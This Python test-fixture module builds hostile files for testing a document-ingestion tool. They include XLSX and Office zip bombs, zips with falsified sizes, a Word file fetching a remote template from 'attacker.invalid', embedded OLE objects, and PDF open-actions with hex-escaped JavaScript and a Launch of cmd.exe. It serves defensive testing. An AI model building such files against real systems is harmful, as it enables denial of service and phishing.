"""Hostile files built in code, small enough for the tests and, with bigger sizes, used by
``bench/hostile_files.py``. Each builder returns the file's bytes."""

from __future__ import annotations

import io
import zipfile
from xml.sax.saxutils import escape

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def _column(index: int) -> str:
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def tiny_xlsx(rows: list[list[str]], *, dimension: str | None = None, sheet_xml: str = "") -> bytes:
    """The smallest workbook Excel opens: one sheet of inline strings. ``dimension`` is
    written into the sheet's ``<dimension ref=...>`` as given (it may lie; "" leaves the
    tag out); ``sheet_xml`` replaces the rows with raw XML."""
    cells = sheet_xml or "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{_column(c)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
            for c, v in enumerate(row, start=1)
            if v != ""
        )
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    ref = dimension or f"A1:{_column(max((len(r) for r in rows), default=1))}{max(len(rows), 1)}"
    size_tag = "" if dimension == "" else f'<dimension ref="{ref}"/>'
    files = {
        "[Content_Types].xml": f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        "</Types>",
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" '
        f'xmlns:r="{_REL}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">'
        f"{size_tag}<sheetData>{cells}</sheetData></worksheet>",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        for name, text in files.items():
            package.writestr(name, text)
    return buffer.getvalue()


def far_cell_xlsx(
    header: list[str], *, row: int, column: int, dimension: str | None = None
) -> bytes:
    """A header row and one value at (row, column), however far away: a few hundred bytes."""
    first = "".join(
        f'<c r="{_column(c)}1" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
        for c, v in enumerate(header, start=1)
    )
    where = f"{_column(column)}{row}"
    far = f'<row r="{row}"><c r="{where}" t="inlineStr"><is><t>2025-01</t></is></c></row>'
    rows_xml = f'<row r="1">{first}</row>' + (far if row > 1 else "")
    return tiny_xlsx([header], dimension=dimension or f"A1:{where}", sheet_xml=rows_xml)


def xlsx_bomb(*, unpacked_mb: int) -> bytes:
    """A workbook whose shared-strings part is ``unpacked_mb`` MB of spaces, packed about
    1,000 times: what a reader that unpacks it pays for. Written in 1 MB pieces."""
    good = tiny_xlsx([["period", "value"], ["2025-01", "5"]])
    buffer = io.BytesIO(good)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as out,
        out.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream,
    ):
        stream.write(f'<sst xmlns="{_MAIN}">'.encode())
        piece = b" " * (1024 * 1024)
        for _ in range(unpacked_mb):
            stream.write(piece)
        stream.write(b"</sst>")
    return buffer.getvalue()


def _with_part(package: bytes, name: str, data: bytes, *, replace: bool = True) -> bytes:
    """The package with one part added (or replaced), everything else copied as it was."""
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in source.infolist():
            if info.filename == name and replace:
                continue
            out.writestr(info, source.read(info.filename))
        out.writestr(name, data)
    return buffer.getvalue()


# --- Office packages for the evidence library ------------------------------------------

_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file's header
_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
_MAIN_PART = {
    "docx": ("word/document.xml", "word/_rels/document.xml.rels", "word/"),
    "xlsx": ("xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels", "xl/"),
    "pptx": ("ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels", "ppt/"),
}


def real_docx(text: str = "Inter-agency procedures") -> bytes:
    from docx import Document

    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def real_xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Month", "Referrals"])
    sheet.append(["2025-01", 40])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def real_pptx() -> bytes:
    """A one-slide presentation with the parts PowerPoint needs."""
    pml = "http://schemas.openxmlformats.org/presentationml/2006/main"
    files = {
        "[Content_Types].xml": f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
        '<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>'
        "</Types>",
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="ppt/presentation.xml"/>'
        "</Relationships>",
        "ppt/presentation.xml": f'<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="{pml}" '
        f'xmlns:r="{_REL}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
        "ppt/_rels/presentation.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/slide" Target="slides/slide1.xml"/>'
        "</Relationships>",
        "ppt/slides/slide1.xml": f'<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:p="{pml}"><p:cSld/></p:sld>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in files.items():
            package.writestr(name, text)
    return buffer.getvalue()


REAL = {"docx": real_docx, "xlsx": real_xlsx, "pptx": real_pptx}


def _add_relationship(
    package: bytes, rels_part: str, rel_type: str, target: str, *, external: bool
) -> bytes:
    """The package with one more relationship in ``rels_part`` (made if missing)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdHostile" Type="{rel_type}" Target="{escape(target)}"{mode}/>'
    if rels_part in source.namelist():
        text = source.read(rels_part).decode()
        text = text.replace("</Relationships>", entry + "</Relationships>")
    else:
        text = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
            f"{entry}</Relationships>"
        )
    return _with_part(package, rels_part, text.encode())


def docx_with_remote_template(url: str = "http://attacker.invalid/template.dotm") -> bytes:
    """A Word file that fetches its template from another server when opened (the way
    remote-template phishing works): an external attachedTemplate relationship."""
    return _add_relationship(
        real_docx(), "word/_rels/settings.xml.rels", f"{_REL}/attachedTemplate", url, external=True
    )


def with_external_link(kind: str, rel_type: str, url: str) -> bytes:
    _, rels, _ = _MAIN_PART[kind]
    return _add_relationship(REAL[kind](), rels, f"{_REL}/{rel_type}", url, external=True)


def with_ole_object(kind: str) -> bytes:
    """The package with an embedded OLE object (an ``oleObject1.bin`` part, its content
    type and the relationship from the main part), as Office writes one."""
    _, rels, prefix = _MAIN_PART[kind]
    package = _with_part(REAL[kind](), f"{prefix}embeddings/oleObject1.bin", _OLE_MAGIC)
    source = zipfile.ZipFile(io.BytesIO(package))
    types = source.read("[Content_Types].xml").decode()
    types = types.replace(
        "</Types>", f'<Default Extension="bin" ContentType="{_OLE_TYPE}"/></Types>'
    )
    package = _with_part(package, "[Content_Types].xml", types.encode())
    return _add_relationship(
        package, rels, f"{_REL}/oleObject", "../embeddings/oleObject1.bin", external=False
    )


def office_bomb(
    kind: str = "docx", *, unpacked_mb: int, part: str = "[Content_Types].xml"
) -> bytes:
    """A real Word (or Excel, PowerPoint) file whose ``part`` is padded with
    ``unpacked_mb`` MB of spaces, packed about 1,000 times: 800 MB unpack from 800 KB.
    Written in 1 MB pieces, so building it costs no more memory than that."""
    source = zipfile.ZipFile(io.BytesIO(REAL[kind]()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != part:
                out.writestr(info.filename, data)
                continue
            head, _, tail = data.decode().rpartition("</")
            with out.open(part, "w", force_zip64=True) as stream:
                stream.write(head.encode())
                piece = b" " * (1024 * 1024)
                for _ in range(unpacked_mb):
                    stream.write(piece)
                stream.write(b"</" + tail.encode())
    return buffer.getvalue()


def lying_sizes(package: bytes, part: str, claimed: int) -> bytes:
    """The package with ``part``'s unpacked size rewritten to ``claimed`` in both the local
    header and the central directory, as a hand-made zip bomb would (the checksum is left
    as it was, so a reader that trusts the size unpacks the wrong amount)."""
    import struct

    data = bytearray(package)
    name = part.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_length = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_length] == name:
            struct.pack_into("<I", data, local + 22, claimed)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_length] == name:
            struct.pack_into("<I", data, central + 24, claimed)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


# --- PDFs -------------------------------------------------------------------------------


def pdf_file(
    objects: dict[int, bytes], *, packed: frozenset[int] | set[int] = frozenset(), info: bytes = b""
) -> bytes:
    """A PDF with the given numbered objects (1 is the catalog). Objects in ``packed`` go
    into a compressed object stream, with a cross-reference stream, as PDF 1.5 writes them;
    otherwise a classic cross-reference table."""
    import zlib

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    loose = {n: body for n, body in objects.items() if n not in packed}
    for number, body in sorted(loose.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    info_ref = b""
    size = max(objects) + 1
    if info:
        info_number = size
        size += 1
        offsets[info_number] = len(out)
        out += b"%d 0 obj\n" % info_number + info + b"\nendobj\n"
        info_ref = b" /Info %d 0 R" % info_number
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += (
                b"%010d 00000 n \n" % offsets[number]
                if number in offsets
                else b"0000000000 65535 f \n"
            )
        out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
            size,
            info_ref,
            xref,
        )
        return bytes(out)
    stream_number, xref_number = size, size + 1
    header, bodies = [], b""
    for number in sorted(packed):
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number] + b"\n"
    first = b" ".join(header) + b"\n"
    packed_data = zlib.compress(first + bodies)
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(packed), len(first), len(packed_data))
        + packed_data
        + b"\nendstream\nendobj\n"
    )
    offsets[xref_number] = len(out)
    entries = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    packed_index = {number: i for i, number in enumerate(sorted(packed))}
    for number in range(1, xref_number + 1):
        if number in packed_index:
            entries += (
                bytes([2])
                + stream_number.to_bytes(4, "big")
                + packed_index[number].to_bytes(2, "big")
            )
        elif number in offsets:
            entries += bytes([1]) + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            entries += b"\x00\x00\x00\x00\x00\xff\xff"
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R%s /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, info_ref, len(entries))
        + bytes(entries)
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


_PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def plain_pdf(*, info: bytes = b"") -> bytes:
    return pdf_file({1: b"<< /Type /Catalog /Pages 2 0 R >>", **_PAGES}, info=info)


def pdf_with_action(action: bytes, *, packed: bool = False) -> bytes:
    """A one-page PDF that runs ``action`` when opened (its /OpenAction)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **_PAGES, 4: action}
    return pdf_file(objects, packed={1, 4} if packed else set())


HOSTILE_PDF_ACTIONS = {
    "hex-escaped JavaScript": b"<< /Type /Action /S /J#61vaScript /JS (app.alert(1)) >>",
    "hex-escaped Launch": b"<< /Type/Action/S/L#61unch/F(cmd.exe) >>",
    "/JS( with no space": b"<</S/JavaScript/JS(app.alert(1))>>",
}


# --- Questionnaires -----------------------------------------------------------------------

REDCAP_HEADER = (
    '"Variable / Field Name","Form Name","Section Header","Field Type","Field Label",'
    '"Choices, Calculations, OR Slider Labels","Field Note",'
    '"Text Validation Type OR Show Slider Number","Text Validation Min","Text Validation Max",'
    '"Identifier?","Branching Logic (Show field only if...)","Required Field?"\n'
)


def redcap_dictionary(fields: int, *, choices: int = 3, forms: int = 10) -> bytes:
    """A REDCap data dictionary with ``fields`` fields spread over ``forms`` instruments:
    radio fields with ``choices`` options, text fields, yes/no fields with branching logic
    on the field before. 40,000 fields is about 3 MB."""
    lines = [REDCAP_HEADER]
    options = " | ".join(f"{c}, Option {c}" for c in range(1, choices + 1))
    per_form = max(1, fields // forms)
    for n in range(fields):
        form = f"form_{min(n // per_form, forms - 1)}"
        kind = n % 3
        if kind == 0:
            lines.append(f'f{n},{form},,radio,"Question {n}","{options}",,,,,,,y\n')
        elif kind == 1:
            lines.append(
                f'f{n},{form},,text,"Question {n}",,,integer,0,100,,"[f{n - 1}] = \'1\'",\n'
            )
        else:
            lines.append(f'f{n},{form},,yesno,"Question {n}",,,,,,,,\n')
    return "".join(lines).encode()


def xlsform_csv(questions: int, *, per_group: int = 50) -> bytes:
    """An XLSForm in pyxform's single-CSV layout with ``questions`` questions in groups."""
    lines = ["survey,type,name,label\n"]
    for n in range(questions):
        if n % per_group == 0:
            if n:
                lines.append(f",end_group,g{n // per_group - 1},\n")
            lines.append(f",begin_group,g{n // per_group},Part {n // per_group + 1}\n")
        lines.append(f",select_one yn,q{n},Question {n + 1}\n")
    lines.append(f",end_group,g{(questions - 1) // per_group},\n")
    lines.append("choices,list_name,name,label\n,yn,yes,Yes\n,yn,no,No\n")
    lines.append("settings,form_title,form_id\n,Generated,generated\n")
    return "".join(lines).encode()


def nested_groups_csv(depth: int) -> bytes:
    lines = ["survey,type,name,label\n"]
    lines += [f",begin_group,g{d},Level {d}\n" for d in range(depth)]
    lines.append(",text,q,Deep question\n")
    lines += [f",end_group,g{d},\n" for d in reversed(range(depth))]
    return "".join(lines).encode()


def xlsform_xlsx(questions: int, *, per_group: int = 50) -> bytes:
    """The same form as :func:`xlsform_csv` as an Excel workbook (written streaming, so a
    100,000-question workbook takes seconds to build)."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    survey = book.create_sheet("survey")
    survey.append(["type", "name", "label"])
    for n in range(questions):
        if n % per_group == 0:
            if n:
                survey.append(["end_group", f"g{n // per_group - 1}"])
            survey.append(["begin_group", f"g{n // per_group}", f"Part {n // per_group + 1}"])
        survey.append(["select_one yn", f"q{n}", f"Question {n + 1}"])
    survey.append(["end_group", f"g{(questions - 1) // per_group}"])
    choices = book.create_sheet("choices")
    for row in (["list_name", "name", "label"], ["yn", "yes", "Yes"], ["yn", "no", "No"]):
        choices.append(row)
    settings = book.create_sheet("settings")
    settings.append(["form_title", "form_id"])
    settings.append(["Generated", "generated"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def locked_pdf(user_password: str = "secret") -> bytes:  # noqa: S107 - a test file
    """The plain PDF encrypted (RC4, which pypdf writes without extra libraries); with an
    empty user password anyone can open it, as with permission-only protection."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def report_pdf(pages: int = 20) -> bytes:
    """An ordinary report as WeasyPrint writes it (fonts, links, an outline)."""
    from weasyprint import HTML

    body = "".join(
        f"<h1>Section {n}</h1><p>Chronologies were up to date in {n} of 40 files. "
        '<a href="https://www.careinspectorate.com/">Care Inspectorate</a></p>'
        '<p style="break-after: page">More findings.</p>'
        for n in range(1, pages + 1)
    )
    return HTML(string=f"<html><body>{body}</body></html>").write_pdf()
